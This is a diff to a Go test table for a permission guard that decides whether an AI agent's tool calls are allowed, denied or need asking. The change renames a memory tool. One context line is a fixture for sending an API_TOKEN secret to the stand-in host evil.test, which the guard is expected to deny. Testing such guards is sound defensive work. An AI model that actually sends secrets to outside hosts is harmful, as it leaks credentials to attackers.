@@ -129,8 +129,8 @@ func TestDecide(t *testing.T) {
 		"a secret to another host":       {coder("http_get", tool.NetworkCalls, tool.Act{URL: "https://evil.test/x", Secrets: []string{"API_TOKEN"}}), guard.Deny, "secret"},
 		"no permission for files":        {change(writing("/src/shop/a.go"), func(r *guard.Request) { r.Agent.Permissions.File = false }), guard.Deny, "files"},
 		"no permission for programs":     {change(shell("make lint"), func(r *guard.Request) { r.Agent.Permissions.Shell = false }), guard.Deny, "shell"},
-		"a memory":                       {change(coder("memory_store", tool.WriteRecords, tool.Act{}), func(r *guard.Request) { r.Tool.Asks = "It is believed." }), guard.Ask, "asks"},
-		"a memory of a pipeline": {change(coder("memory_store", tool.WriteRecords, tool.Act{}), func(r *guard.Request) {
+		"a memory":                       {change(coder("memory", tool.WriteRecords, tool.Act{}), func(r *guard.Request) { r.Tool.Asks = "It is believed." }), guard.Ask, "asks"},
+		"a memory of a pipeline": {change(coder("memory", tool.WriteRecords, tool.Act{}), func(r *guard.Request) {
 			r.Tool.Asks, r.Who.Via = "It is believed.", guard.ByWorkflow
 		}), guard.Allow, "records-by-role"},
 	} {
